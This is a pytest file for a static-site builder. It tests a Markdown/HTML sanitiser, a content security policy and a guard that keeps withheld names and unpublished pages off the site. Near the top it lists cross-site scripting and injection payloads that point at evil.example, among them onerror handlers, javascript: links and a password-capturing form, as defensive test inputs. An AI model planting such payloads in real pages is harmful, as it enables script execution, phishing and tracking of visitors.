"""The guarantees themselves, apart from any build: the sanitiser, the policy, the leak guard.

The validator tells contributors what is wrong; these hold whatever it misses.
"""

from __future__ import annotations

import gzip
import re
import threading
import zlib
from pathlib import Path

import pytest
from pdf_files import document

from area_knowledge.publishing.withholding import Mentions
from area_knowledge.site.bodies import LinkTargets, render_body
from area_knowledge.site.finishing import live
from area_knowledge.site.finishing.finish import FinishingFailed, finish_site
from area_knowledge.site.finishing.leak_guard import Guard, digest, leaks, text_of
from area_knowledge.site.finishing.policy import content_security_policy, foreign_script

NOBODY = Mentions([], [], "hello@partnership.example")
TARGETS = LinkTargets(
    pages=frozenset({"case-studies/other.md", "themes/send.md", "about.md"}),
    known=frozenset({"case-studies/other.md", "case-studies/draft.md", "practitioners/gone.md"}),
    attachments=frozenset({"plan.pdf", "chart.png"}),
)
HERE = "case-studies/this.md"

# Markdown and HTML an attacker writes to make a script run, a page restyle or
# a request leave the site; each gets past a deny-list somewhere.
HOSTILE_BODIES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><circle/></svg>",
    "[click](\u00a0javascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    'Text\n{: style="position:fixed;top:0;left:0;width:100%;height:100%" }',
    '<a style="position:fixed;inset:0" href="https://evil.example">cover</a>',
    '<p class="md-header">restyled</p>',
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<object data=x.swf></object><embed src=x.swf>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "![tracker](https://evil.example/pixel.gif)",
    '<img srcset="https://evil.example/a.png 1x">',
    '<div id="__drawer">clobber</div>',
    '<p data-pagefind-filter="kind">Hub</p>',
    '<a href="x" target="_blank" ping="https://evil.example">x</a>',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    '"><img src=x onerror=alert(1)>',
]


def rendered(body: str) -> str:
    return render_body(body, HERE, TARGETS, NOBODY).html


@pytest.mark.parametrize("body", HOSTILE_BODIES)
def test_sanitised_body_holds_nothing_that_runs_restyles_or_loads(body: str) -> None:
    html = rendered(body).lower()

    assert "<script" not in html and "<style" not in html and "<iframe" not in html
    assert not re.search(r"<[^>]+\s(on[a-z]+|style|srcset|ping|target)\s*=", html)
    assert "javascript:" not in html and "data:" not in html
    assert "evil.example/x.js" not in html and "pixel.gif" not in html
    assert "<form" not in html and "<input" not in html and "<meta" not in html
    assert not re.search(r'class="[^"]*md-', html) and 'id="__' not in html
    assert "data-pagefind" not in html


def test_markdown_a_case_study_uses_survives_sanitising() -> None:
    body = (
        "## What we did\n\nWe met **weekly**, with *pupils* and `code`.\n\n"
        "| Week | Pupils |\n| --- | --- |\n| 1 | 12 |\n\n"
        '!!! note "Costs"\n    Two hours a week.\n\n'
        "- one\n- two\n\n> A quote.\n\n[Guide](https://example.org/guide) and "
        "[write to us](mailto:office@school.sch.uk).\n"
    )

    html = rendered(body)

    for piece in (
        '<h2 id="what-we-did">What we did</h2>',
        "<strong>weekly</strong>",
        "<td>12</td>",
        '<div class="admonition note">',
        '<p class="admonition-title">Costs</p>',
        "<blockquote>",
        'href="https://example.org/guide"',
        'href="mailto:office@school.sch.uk"',
    ):
        assert piece in html


def test_link_to_another_page_goes_to_its_served_address() -> None:
    html = rendered("See [the other one](other.md#impact) and [SEND](../themes/send.md).")

    assert 'href="../../case-studies/other/#impact"' in html
    assert 'href="../../themes/send/"' in html


def test_link_to_an_unpublished_entry_keeps_its_text_and_loses_its_address() -> None:
    result = render_body("Ask [them](../practitioners/gone.md).", HERE, TARGETS, NOBODY)

    assert "Ask <a" in result.html and "them</a>" in result.html
    assert "gone" not in result.html
    assert result.problems == []


def test_link_to_nothing_is_reported() -> None:
    result = render_body("See [this](nowhere.md).", HERE, TARGETS, NOBODY)

    assert "nowhere" not in result.html
    assert result.problems == [
        "links to 'nowhere.md', which is not a page or attachment of the site"
    ]


def test_image_must_be_an_attachment_of_the_site() -> None:
    ours = render_body("![Chart](../attachments/chart.png)", HERE, TARGETS, NOBODY)
    theirs = render_body("![Chart](https://example.org/chart.png)", HERE, TARGETS, NOBODY)

    assert 'src="../../attachments/chart.png"' in ours.html
    assert "example.org" not in theirs.html
    assert "from another site" in theirs.problems[0]


def test_body_heading_of_the_first_level_is_made_second_level() -> None:
    assert "<h1" not in rendered("# A title of their own\n\nText.")


def test_names_are_withheld_from_a_body_however_it_splits_them() -> None:
    mentions = Mentions(["Jane Doe"], ["jane.doe@school.sch.uk"], "hello@partnership.example")
    body = (
        "Ask **Jane** Doe, or Jane\nDoe's team, or *J*ane D&#111;e; "
        "write to [her](mailto:Jane.Doe@school.sch.uk) or <jane.doe@school.sch.uk>.\n\n"
        '![Jane Doe](../attachments/chart.png "Jane Doe")'
    )

    html = render_body(body, HERE, TARGETS, mentions).html

    assert mentions.named_in(html) == []
    assert html.count("[name withheld]") >= 4
    assert "mailto:hello@partnership.example" in html


@pytest.mark.parametrize(
    "text",
    [
        "Ask Jane Doe.",
        "ask JANE DOE",
        "Jane\u00a0Doe",
        "Jane\n  Doe",
        "Jane Doe's class",
        "Jane Doe\u2019s class",
        "J\u200bane Doe",
        "Jáne Doe",
        "Ja\u0345ne Do\u0301e",
        "\uff2a\uff21\uff2e\uff25 \uff24\uff2f\uff25",
    ],
)
def test_name_is_found_in_any_case_spacing_accent_or_possessive(text: str) -> None:
    mentions = Mentions(["Jane Doe"], [], "hello@partnership.example")

    assert "Jane" not in mentions.withhold(text).replace("Jane Does", "")
    assert mentions.named_in(text)


@pytest.mark.parametrize("text", ["Jane Does", "Jane Doe-Smith", "Ms Janet Doe", "jane doe2"])
def test_a_longer_name_is_not_withheld(text: str) -> None:
    assert Mentions(["Jane Doe"], [], "x@y.z").withhold(text) == text


def test_apostrophe_in_a_name_matches_either_way() -> None:
    mentions = Mentions(["Siobhán O’Neill"], [], "x@y.z")

    assert mentions.withhold("Thanks to Siobhan O'Neill.") == "Thanks to [name withheld]."


def test_policy_allows_only_the_themes_scripts_by_hash() -> None:
    policy = content_security_policy(["'sha256-abc='"])

    assert "script-src 'self' 'wasm-unsafe-eval' 'sha256-abc='" in policy
    assert "'unsafe-inline'" not in policy.split("style-src")[0]
    assert "object-src 'none'" in policy and "base-uri 'self'" in policy


def test_page_with_a_script_the_theme_did_not_write_is_refused() -> None:
    page = "<html><head></head><body><script>alert(1)</script></body></html>"

    assert foreign_script(page, frozenset()) is not None
    assert foreign_script('<p><img src=x onerror="x()"></p>', frozenset()) is not None
    assert foreign_script('<a href="javascript:x()">x</a>', frozenset()) is not None
    assert foreign_script("<p>plain</p><script src='a.js'></script>", frozenset()) is None


def built(tmp_path: Path, pages: dict[str, str]) -> Path:
    """A built site of a few files, with a 404 page holding the theme's one script."""
    site = tmp_path / "site"
    theme = "<html><head></head><body><script>var theme = 1;</script></body></html>"
    for path, text in {"404.html": theme, **pages}.items():
        (site / path).parent.mkdir(parents=True, exist_ok=True)
        (site / path).write_text(text, encoding="utf-8")
    return site


def test_finishing_puts_the_policy_first_in_every_page(tmp_path: Path) -> None:
    site = built(tmp_path, {"index.html": "<html><head><meta charset=utf-8></head></html>"})

    finish_site(str(site), NOBODY, (), {}, search=False)

    page = (site / "index.html").read_text(encoding="utf-8")
    assert page.startswith('<html><head><meta charset=utf-8><meta http-equiv="Content-Security')


def test_finishing_stops_at_a_page_holding_foreign_script(tmp_path: Path) -> None:
    site = built(tmp_path, {"a/index.html": "<html><head></head><script>x()</script></html>"})

    with pytest.raises(FinishingFailed, match=r"a/index\.html: holds an inline script"):
        finish_site(str(site), NOBODY, (), {}, search=False)


def test_a_file_found_clean_before_it_was_copied_is_read_again_if_it_changed(
    tmp_path: Path,
) -> None:
    mentions = Mentions(["Jane Doe"], [], "x@y.z")
    site = built(tmp_path, {"index.html": "<p>Nobody</p>"})
    (site / "same.csv").write_text("id,name\n1,Jane Doe\n", encoding="utf-8")
    (site / "changed.csv").write_text("id,name\n1,Jane Doe\n", encoding="utf-8")
    vouched = {
        "same.csv": digest(b"id,name\n1,Jane Doe\n"),
        "changed.csv": digest(b"id,name\n1,Nobody\n"),
    }

    found = leaks(str(site), mentions, (), checked=frozenset({"index.html"}), vouched=vouched)

    # "same.csv" stands for a file the guard read before: vouched for, it is not read.
    assert [leak.path for leak in found] == ["changed.csv"]


@pytest.mark.parametrize("other_thread", [False, True], ids=["forked", "in-process"])
def test_the_guard_reads_what_the_engine_is_to_copy_before_the_pages(
    tmp_path: Path, other_thread: bool
) -> None:
    mentions = Mentions(["Jane Doe"], [], "x@y.z")
    theme_file = tmp_path / "theme.js"
    theme_file.write_text("// by Jane Doe", encoding="utf-8")
    # As the theme installed it, its authors credited: not read. Altered, it is.
    credits = b"// by Jane Doe, the stemmer's author"
    shipped = frozenset({digest(credits)})
    # A thread still running (a preview's indexing, a test's server) rules out forking.
    release = threading.Event()
    waiting = threading.Thread(target=release.wait, daemon=True)
    if other_thread:
        waiting.start()
    try:
        guard = live._GuardProcess(
            Guard(mentions, ()),
            {
                "data.csv": b"1,Jane Doe\n",
                "ok.csv": b"1,x\n",
                "theme.js": str(theme_file),
                "credits.js": credits,
                "altered.js": credits + b" and Jane Doe again",
            },
            shipped,
        )
        found, vouched = guard.result()
    finally:
        release.set()

    if other_thread:
        assert guard.process is None

    assert sorted(leak.path for leak in found) == ["altered.js", "data.csv", "theme.js"]
    assert vouched == {"ok.csv": digest(b"1,x\n"), "credits.js": digest(credits)}


def test_leak_guard_finds_a_withheld_name_in_any_file_compressed_or_not(tmp_path: Path) -> None:
    mentions = Mentions(["Jane Doe"], ["jane@school.sch.uk"], "x@y.z")
    site = built(tmp_path, {"index.html": "<p>Nobody</p>"})
    (site / "data.csv").write_text("id,name\n1,JANE  DOE\n", encoding="utf-8")
    fragment = site / "pagefind" / "fragment" / "en_1.pf_fragment"
    fragment.parent.mkdir(parents=True)
    fragment.write_bytes(gzip.compress(b'pagefind_dcd{"content":"Ask <em>Jane</em> Doe"}'))
    (site / "feed.xml").write_text("<entry>jane@school.sch.uk</entry>", encoding="utf-8")
    (site / "about" / "index.html").parent.mkdir()
    (site / "about" / "index.html").write_text(
        '<a href="../practitioners/jane-doe/">x</a>', encoding="utf-8"
    )

    found = {str(leak) for leak in leaks(str(site), mentions, ("practitioners/jane-doe",))}

    assert found == {
        "data.csv: names 'jane doe', whom the site must not show",
        "pagefind/fragment/en_1.pf_fragment: names 'jane doe', whom the site must not show",
        "feed.xml: names 'jane@school.sch.uk', whom the site must not show",
        "about/index.html: names 'jane-doe', whom the site must not show",
        "about/index.html: names the page 'practitioners/jane-doe', whom the site must not show",
    }


@pytest.mark.parametrize(
    "link",
    [
        '<a href="../case-studies/a-draft/">x</a>',
        # As a browser follows them: unescaped, then percent-decoded.
        '<a href="../case-studies/a-dr%61ft/">x</a>',
        '<a href="../case-studies/a-dr&#97;ft/">x</a>',
        '<a href="../case-studies/a-dr&#x25;61ft/">x</a>',
    ],
)
def test_leak_guard_finds_a_link_to_a_withheld_page_however_it_is_escaped(link: str) -> None:
    guard = Guard(Mentions([], [], "x@y.z"), ("case-studies/a-draft",))

    assert [leak.what for leak in guard.check("about/index.html", link)] == [
        "the page 'case-studies/a-draft'"
    ]
    # A longer id is another page.
    assert guard.check("about/index.html", link.replace("ft/", "fts/")) == []


@pytest.mark.parametrize(
    ("shown", "link"),
    [
        ("practitioners/index.html", '<a href="jd17/">x</a>'),
        ("practitioners/index.html", "<a href=jd17>x</a>"),
        ("practitioners/index.html", '<a href="./jd17/">x</a>'),
        ("practitioners/index.html", '<a href=".\\jd17">x</a>'),
        ("practitioners/index.html", '<a href="j&#100;17/">x</a>'),
        ("practitioners/index.html", '<a href="jd\n17/">x</a>'),
        ("practitioners/index.html", '<img src="jd17/photo.jpg" alt="">'),
        ("practitioners/amara/index.html", '<a href="../jd17/">x</a>'),
        ("case-studies/a/index.html", '<a href="../../practitioners/./jd17/">x</a>'),
        ("case-studies/a/index.html", '<a href="../../practitioners/a/../jd17/">x</a>'),
        ("case-studies/a/index.html", '<a href="//host/practitioners//jd17">x</a>'),
        ("case-studies/a/index.html", '<p style="background: url(../..\\practitioners\\jd17)">'),
    ],
)
def test_leak_guard_finds_a_link_to_a_withheld_page_from_where_the_file_is(
    shown: str, link: str
) -> None:
    """An id need not be a name ("jd17"): the link is followed as a browser follows it."""
    guard = Guard(Mentions([], [], "x@y.z"), ("practitioners/jd17",))

    assert [leak.what for leak in guard.check(shown, link)] == ["the page 'practitioners/jd17'"]


@pytest.mark.parametrize(
    ("shown", "text"),
    [
        # Another page, another folder's page, or no link at all.
        ("practitioners/index.html", '<a href="jd17s/">x</a>'),
        ("practitioners/index.html", '<a href="..\\jd17">x</a>'),
        ("practitioners/index.html", '<a href="../case-studies/jd17/">x</a>'),
        ("case-studies/a/index.html", '<a href="../jd17/">x</a>'),
        ("practitioners/index.html", "<p>Her reference was jd17.</p>"),
    ],
)
def test_leak_guard_lets_a_link_elsewhere_through(shown: str, text: str) -> None:
    guard = Guard(Mentions([], [], "x@y.z"), ("practitioners/jd17",))

    assert guard.check(shown, text) == []


class _IndexNamingSomeone:
    """Stands in for Pagefind: the index it writes, once done, names a withheld person."""

    def __init__(self, site_dir: str) -> None:
        self.site = Path(site_dir)

    def result(self) -> str:
        fragment = self.site / "pagefind" / "fragment" / "en_1.pf_fragment"
        fragment.parent.mkdir(parents=True)
        fragment.write_bytes(gzip.compress(b'pagefind_dcd{"content":"Ask Jane Doe"}'))
        return "Indexed 1 page"


def test_live_finishing_reads_the_search_index_once_it_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = built(tmp_path, {})
    monkeypatch.setattr(live, "SearchIndex", _IndexNamingSomeone)
    finishing = live.LiveFinishing(str(site), Mentions(["Jane Doe"], [], "x@y.z"), (), {})
    finishing.theme_page((site / "404.html").read_text(encoding="utf-8"))

    with pytest.raises(FinishingFailed, match=r"pagefind/fragment/en_1\.pf_fragment: names"):
        finishing.finish()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("calendar.ics", "SUMMARY:Sean O\u2019Neill".encode()),
        ("old.htm", "<p>Jane\u00a0Doe</p>".encode()),
        ("page.html", "<p>Jane Doe</p>".encode("utf-16")),
        ("joined.gz", gzip.compress(b"Sean and ") + gzip.compress(b"Jane Doe")),
        # Drawn from a compressed stream: the file's bytes hold no letter of the name.
        (
            "report.pdf",
            document(
                zlib.compress(b"BT (Jane Doe) Tj ET"), content_entries=b"/Filter /FlateDecode"
            ),
        ),
    ],
)
def test_leak_guard_reads_any_file_as_the_text_it_is(name: str, data: bytes) -> None:
    guard = Guard(Mentions(["Sean O'Neill", "Jane Doe"], [], "x@y.z"), ())

    assert guard.check(name, text_of(name, data))
